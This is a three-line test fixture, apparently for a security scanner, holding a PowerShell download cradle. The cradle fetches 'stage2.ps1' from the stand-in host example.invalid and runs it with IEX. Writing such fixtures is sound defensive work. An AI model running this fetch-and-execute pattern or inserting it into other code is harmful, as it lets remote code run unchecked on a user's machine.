# mamori test fixture: a PowerShell download cradle (example.invalid)
$u = 'http://example.invalid/stage2.ps1'
IEX (New-Object Net.WebClient).DownloadString($u)
